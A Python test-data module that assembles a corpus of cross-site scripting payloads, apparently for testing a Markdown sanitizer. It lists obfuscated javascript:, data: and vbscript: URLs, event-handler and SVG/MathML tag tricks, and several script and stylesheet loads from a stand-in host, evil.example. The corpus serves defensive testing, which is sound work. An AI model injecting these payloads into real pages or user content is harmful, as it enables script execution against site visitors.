"""Hostile inputs for the Markdown fields: families, and the ways people disguise them."""

from __future__ import annotations

ALERT = "alert(document.domain)"

_SCHEMES = [
    f"javascript:{ALERT}",
    f"JaVaScRiPt:{ALERT}",
    f"JAVASCRIPT:{ALERT}",
    f" javascript:{ALERT}",
    f"java\tscript:{ALERT}",
    f"java&#x09;script:{ALERT}",
    f"&#106;avascript:{ALERT}",
    f"&#x6A;&#x61;&#x76;&#x61;script:{ALERT}",
    f"javascript&colon;{ALERT}",
    f"%6Aavascript:{ALERT}",
    f"\x01javascript:{ALERT}",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "VbScRiPt:msgbox(1)",
    "livescript:alert(1)",
]

_LINK_FORMS = [
    "[click]({url})",
    "[click](<{url}>)",
    '[click]({url} "title")',
    "![img]({url})",
    "[![img](https://example.fi/x.png)]({url})",
    "[ref][1]\n\n[1]: {url}",
    "<{url}>",
    '<a href="{url}">a</a>',
    '<iframe src="{url}"></iframe>',
]

_TAGS = [
    f"<script>{ALERT}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    f"<scr<script>ipt>{ALERT}</script>",
    "<script/xss src=//evil.example/x.js></script>",
    f"<img src=x onerror={ALERT}>",
    f'<img src="x" onerror="{ALERT}" />',
    "<img src=x:alert(1) onerror=eval(src)>",
    f"<body onload={ALERT}>",
    f"<svg onload={ALERT}>",
    f"<svg><script>{ALERT}</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    f'<div onmouseover="{ALERT}">hover</div>',
    f'<a onclick="{ALERT}">tap</a>',
    f"<input autofocus onfocus={ALERT}>",
    f"<details open ontoggle={ALERT}>",
    f"<video><source onerror={ALERT}></video>",
    f"<audio src=x onerror={ALERT}>",
    f"<marquee onstart={ALERT}>x</marquee>",
    f'<iframe srcdoc="<script>{ALERT}</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<style>@import "https://evil.example/x.css";</style>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="width:expression(alert(1))">x</p>',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    "<button formaction=javascript:alert(1)>go</button>",
    f"<textarea><script>{ALERT}</script></textarea>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    f"<template><script>{ALERT}</script></template>",
    "<![CDATA[<script>alert(1)</script>]]>",
    f"<isindex type=image src=1 onerror={ALERT}>",
    f'<table background="javascript:{ALERT}"><tr><td>x</td></tr></table>',
    f'<x onclick="{ALERT}">custom</x>',
    f'<a href="https://example.fi" onmouseover="{ALERT}">ok link, bad attribute</a>',
    f'<em onclick="{ALERT}">allowed tag, bad attribute</em>',
    "<p><a href='https://example.fi' style='position:fixed;inset:0'>overlay</a></p>",
    f"`<script>{ALERT}</script>`",
    f"    <script>{ALERT}</script>",
    f"**<img src=x onerror={ALERT}>**",
    '[x](https://example.fi "onmouseover=alert(1)")',
    '![x" onerror="alert(1)](https://example.fi/a.png)',
    '![x](https://example.fi/a.png" onerror="alert(1))',
    "[a](https://example.fi)<img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "<<script>script>alert(1)<</script>/script>",
]


def _disguises(payload: str) -> list[str]:
    return [
        payload,
        payload.swapcase() if "<" in payload else payload,
        "> " + payload,
        "- " + payload,
        "Text before\n\n" + payload + "\n\nand after",
    ]


def corpus() -> list[str]:
    """Return the distinct hostile inputs: every tag payload disguised, every scheme in every link."""
    items = [form.format(url=url) for url in _SCHEMES for form in _LINK_FORMS]
    for payload in _TAGS:
        items.extend(_disguises(payload))
    return list(dict.fromkeys(items))
